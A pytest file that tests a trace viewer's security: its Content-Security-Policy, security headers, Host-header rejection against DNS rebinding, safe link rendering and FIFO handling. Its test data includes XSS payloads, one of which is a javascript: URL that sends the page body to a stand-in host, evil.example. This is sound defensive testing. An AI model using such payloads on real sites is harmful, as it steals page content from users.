"""Issue 12 item 5: the trace viewer's links, its Content-Security-Policy and its Host check."""

import http.client
import os
import re
import shutil
import signal
import subprocess
import tempfile
from html.parser import HTMLParser

import pytest

from agenthub.tracer import save_trace
from agenthub.apps import viewer as viewer_module
from agenthub.apps.viewer import PAGE, serve_in_thread
from sse_server import close_server, track_connections

BROWSERS = ("/usr/bin/chromium", "/usr/bin/chromium-browser", "/usr/bin/google-chrome")
EVIL = ["javascript:fetch('https://evil.example/?'+document.body.innerHTML)", "JaVaScRiPt:alert(1)",
        " javascript:alert(2)", "data:text/html,<script>alert(3)</script>", "vbscript:msgbox(4)", "/raw/other.json",
        "https://ok.example/a b"]
HISTORY = [
    {"role": "user", "content_items": [{"type": "text", "text": "hi"}]},
    {"role": "assistant", "content_items": [{"type": "image_url", "image_url": url} for url in EVIL]
     + [{"type": "image_url", "image_url": "https://img.example/cat.png"}]},
    {"role": "user", "content_items": [{"type": "tool_result", "text": "r", "tool_call_id": "c1",
                                        "images": EVIL + ["http://img.example/dog.png"]}]},
]


@pytest.fixture
def viewer(tmp_path):
    save_trace("evil", "demo-model", HISTORY, {}, root=str(tmp_path))
    server, url = serve_in_thread(str(tmp_path))
    connections = track_connections(server)  # (a browser's connections end with the viewer)
    yield server
    close_server(server, connections)


def _get(server, host, path="/"):
    connection = http.client.HTTPConnection(server.server_address[0], server.server_address[1], timeout=10)
    try:
        connection.putrequest("GET", path, skip_host=True)
        if host is not None:
            connection.putheader("Host", host)
        connection.endheaders()
        answer = connection.getresponse()
        return answer.status, dict(answer.getheaders()), answer.read()
    finally:
        connection.close()


def test_the_page_runs_only_its_own_script_and_style():
    CSP = getattr(viewer_module, "CSP", "script-src 'unsafe-inline'")
    assert "unsafe-inline" not in CSP and "unsafe-eval" not in CSP
    script = re.search(r"script-src ('sha256-[A-Za-z0-9+/=]+')(;|$)", CSP)
    style = re.search(r"style-src ('sha256-[A-Za-z0-9+/=]+')(;|$)", CSP)
    assert script and style
    for part in ("default-src 'none'", "base-uri 'none'", "form-action 'none'", "frame-ancestors 'none'",
                 "object-src 'none'"):
        assert part in CSP
    assert "__DATA__" not in PAGE[PAGE.index("<script>"):]  # the data block is never the executed script


@pytest.mark.parametrize("host", ["127.0.0.1:{port}", "localhost:{port}", "127.0.0.1", "LOCALHOST"])
def test_its_own_names_are_answered(viewer, host):
    status, headers, body = _get(viewer, host.format(port=viewer.server_address[1]), "/trace/evil")
    assert status == 200
    assert headers["Content-Security-Policy"] == viewer_module.CSP
    assert headers["X-Content-Type-Options"] == "nosniff"


def test_every_answer_has_the_playgrounds_security_headers(viewer):
    # the viewer lacked Cross-Origin-Opener-Policy and X-Frame-Options, which the playground sends: a page of
    # another origin that opened the viewer kept a handle on its window; the CSP now also has the playground's
    # Trusted Types lines (the page's script writes text only)
    from agenthub.apps import playground
    wanted = {name: value for name, value in playground.HEADERS if name not in ("Content-Type",
                                                                                 "Content-Security-Policy")}
    assert wanted == {"X-Content-Type-Options": "nosniff", "X-Frame-Options": "DENY",
                      "Referrer-Policy": "no-referrer", "Cache-Control": "no-store",
                      "Cross-Origin-Opener-Policy": "same-origin"}
    host = "127.0.0.1:{}".format(viewer.server_address[1])
    for path, status in (("/", 200), ("/trace/evil", 200), ("/raw/evil.json", 200), ("/nothing", 404)):
        got, headers, _ = _get(viewer, host, path)
        assert got == status
        assert {name: headers.get(name) for name in wanted} == wanted
        assert headers["Content-Security-Policy"] == viewer_module.CSP
    for part in ("require-trusted-types-for 'script'", "trusted-types 'none'"):
        assert part in viewer_module.CSP


@pytest.mark.parametrize("host", ["evil.example", "evil.example:{port}", "127.0.0.1.evil.example:{port}",
                                  "localhost:1", "127.0.0.2:{port}", "", None, "localhost.:{port}",
                                  "[::1]x:{port}"])
def test_another_host_is_refused(viewer, host):
    """DNS rebinding: a name under an attacker's control resolving to 127.0.0.1 carries its own Host."""
    host = None if host is None else host.format(port=viewer.server_address[1])
    for path in ("/", "/trace/evil", "/raw/evil.json"):
        status, _, body = _get(viewer, host, path)
        assert status == 421
        assert b"history" not in body and b"demo-model" not in body


class _Links(HTMLParser):
    def __init__(self):
        HTMLParser.__init__(self)
        self.hrefs, self.srcs, self.buttons = [], [], []
        self._button = None

    def handle_data(self, data):
        if self._button is not None:
            self._button += data

    def handle_endtag(self, tag):
        if tag == "button" and self._button is not None:
            self.buttons.append(self._button)
            self._button = None

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        if tag == "button" and attrs.get("class") == "show-image":
            self._button = ""
        if tag == "a" and "href" in attrs:
            self.hrefs.append(attrs["href"])
        if tag == "img":
            self.srcs.append(attrs.get("src"))


def test_a_browser_makes_links_of_http_urls_only(viewer):
    browser = next((b for b in BROWSERS if os.path.exists(b)), None) or shutil.which("chromium")
    if browser is None:
        pytest.skip("no Chromium installed")
    url = "http://127.0.0.1:{}/trace/evil".format(viewer.server_address[1])
    profile = tempfile.mkdtemp(prefix="agenthub-chromium-")
    process = subprocess.Popen([browser, "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run",
                                "--disable-background-networking", "--disable-dev-shm-usage",
                                "--user-data-dir=" + profile, "--virtual-time-budget=5000", "--dump-dom", url],
                               stdout=subprocess.PIPE, stderr=subprocess.PIPE, start_new_session=True)
    try:
        out, _ = process.communicate(timeout=120)
    finally:
        try:  # its helper processes outlive it: the whole group ends with it
            os.killpg(process.pid, signal.SIGKILL)
        except OSError:  # none left
            pass
        if process.poll() is None:  # (timed out)
            process.kill()
            process.communicate()
        shutil.rmtree(profile, ignore_errors=True)
    dom = out.decode("utf-8")
    assert "Assistant" in dom  # the page's script ran under the CSP
    links = _Links()
    links.feed(dom)
    own = "http://127.0.0.1:{}/".format(viewer.server_address[1])
    trace_links = [h for h in links.hrefs if not h.startswith(("/trace/", "/raw/", own)) and h != "/"]
    assert trace_links == ["https://img.example/cat.png", "http://img.example/dog.png"]
    # a remote image is not fetched when the page opens (it would tell its host who reads the trace, and when;
    # a presigned URL's signature is spent): a button loads it, on the reader's click
    assert links.srcs == []
    assert links.buttons == ["show the image (loads it from img.example)"] * 2
    assert "link not shown (javascript)" in dom and "link not shown (vbscript)" in dom


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no FIFOs here")
def test_a_fifo_or_a_nested_file_beside_the_traces_is_not_found_and_the_index_still_lists(viewer, tmp_path):
    """The index opened every .json (a FIFO blocked it forever) and /raw/ opened a .txt FIFO; a trace nested past
    the JSON parser's depth is a 404 beside them (tests/test_viewer_bounds.py has it alone)."""
    host = "127.0.0.1:{}".format(viewer.server_address[1])
    os.mkfifo(str(tmp_path / "pipe.json"))
    os.mkfifo(str(tmp_path / "evil2.txt"))
    save_trace("evil2", "demo-model", HISTORY[:1], {}, root=str(tmp_path))  # (its .txt written over the FIFO)
    os.remove(str(tmp_path / "evil2.txt"))
    os.mkfifo(str(tmp_path / "evil2.txt"))
    (tmp_path / "deep.json").write_text('{"history": ' + "[" * 100000 + "]" * 100000 + "}")
    status, _, body = _get(viewer, host, "/")
    assert status == 200 and b"evil2" in body
    assert _get(viewer, host, "/raw/evil2.txt")[0] == 404
    assert _get(viewer, host, "/trace/deep")[0] == 404
    assert _get(viewer, host, "/raw/evil2.json")[0] == 200
